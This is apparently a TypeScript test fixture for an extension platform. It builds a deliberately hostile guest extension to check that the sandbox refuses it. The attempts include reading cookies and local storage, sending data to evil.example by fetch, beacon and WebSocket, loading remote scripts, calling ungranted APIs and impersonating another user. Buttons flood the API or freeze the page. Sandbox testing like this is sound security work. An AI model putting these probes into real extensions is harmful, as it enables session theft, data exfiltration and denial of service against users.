/** Holds what a hostile extension tries; each returns whether it worked, or throws. The page's origin is `location.origin`. */
const attempts: Readonly<Record<string, string>> = {
  'reads the session': "(parent.document.cookie ?? '').length >= 0",
  'reads cookies': "document.cookie !== ''",
  'reads storage of the page': "localStorage.getItem('atrium.session') !== null || parent.localStorage.length >= 0",
  'calls the API': "await fetch(location.origin + '/api/notebooks').then(() => true)",
  'sends to the web': "await fetch('https://evil.example/?d=1').then(() => true)",
  'sends a beacon': "navigator.sendBeacon('https://evil.example/', 'd') && await blockedSoon()",
  'opens a socket':
    "await new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example'); socket.onopen = () => resolve(true); socket.onerror = reject; })",
  'loads a picture from the web':
    "await new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve(true); image.onerror = reject; image.src = 'https://evil.example/p.png'; })",
  'loads a script from the web':
    "await new Promise((resolve, reject) => { const script = document.createElement('script'); script.onload = () => resolve(true); script.onerror = reject; script.src = 'https://evil.example/s.js'; document.head.append(script); })",
  'evaluates text': "(0, eval)('true')",
  'moves the page': "(() => { top.location.href = 'https://evil.example/'; return true; })()",
  'opens a window': "window.open('https://evil.example/') !== null",
  'uses WebRTC': "typeof RTCPeerConnection === 'function'",
  'makes a frame': "document.createElement('iframe') instanceof HTMLIFrameElement",
  'starts a worker':
    "await new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => resolve(true); worker.onerror = reject; })",
  'makes a call that was not granted': "await ask('listMemories', { query: {} })",
  'makes a call that nobody can grant': "await ask('closeAccount', { body: {} })",
  'makes a call of its administrator': "await ask('changeExtension', { body: { state: 'on' } })",
  'acts as somebody else': "(await ask('listNotebooks', { query: { email: 'somebody@example.com' } })) && false",
};

/** Says how many attempts the script lists. */
export const hostileAttempts = Object.keys(attempts).length;

/** Holds the container of an extension that tries everything, lists what was refused, and has buttons that flood and block the page. */
export const hostileScript = `
globalThis.mfe_guest_1_0_0_aa = {
  init() {},
  get: async () => () => {
    const { react: { createElement, useEffect, useState }, 'shared-contracts/shell': { useShell } } = atriumPlatform.shared;
    const calls = (name) => ({ name, method: 'GET', path: '/', auth: 'user', tag: 'notebooks' });
    const Guest = () => {
      const { api } = useShell();
      const [lines, setLines] = useState([]);
      const [granted, setGranted] = useState('');
      useEffect(() => {
        const ask = (name, input) => api.call(calls(name), input).then(() => true);
        const blockedSoon = () => new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
          setTimeout(() => resolve(true), 2000);
        });
        const tries = { ${Object.entries(attempts)
          .map(([name, code]) => `${JSON.stringify(name)}: async () => ${code}`)
          .join()} };
        void (async () => {
          for (const [name, attempt] of Object.entries(tries)) {
            const worked = await attempt().catch(() => false);
            setLines((before) => [...before, name + ': ' + (worked ? 'WORKED' : 'refused')]);
          }
          setGranted(await ask('listNotebooks', { query: {} }).then(() => 'yes', () => 'no'));
        })();
      }, [api]);
      const flood = () => { for (let index = 0; index < 2000; index += 1) api.call(calls('listNotebooks'), { query: {} }).catch(() => undefined); };
      const call = () => api.call(calls('listNotebooks'), { query: {} }).catch(() => undefined);
      const floodSlowly = () => setInterval(() => { for (let index = 0; index < 30; index += 1) call(); }, 100);
      const floodPlaces = () => setInterval(() => { for (let index = 0; index < 30; index += 1) parent.postMessage({ type: 'place', path: '/' + Math.random() }, '*'); }, 100);
      const block = () => setTimeout(() => { for (;;); }, 200);
      return createElement('div', null,
        createElement('button', { onClick: flood }, 'Flood'),
        createElement('button', { onClick: floodSlowly }, 'Flood slowly'),
        createElement('button', { onClick: floodPlaces }, 'Flood with places'),
        createElement('button', { onClick: block }, 'Block'),
        createElement('p', null, 'granted: ' + granted),
        createElement('ul', null, lines.map((line) => createElement('li', { key: line }, line))));
    };
    return { remote: { pages: { guest: { load: async () => undefined, Component: Guest } }, panels: {} } };
  },
};
`;
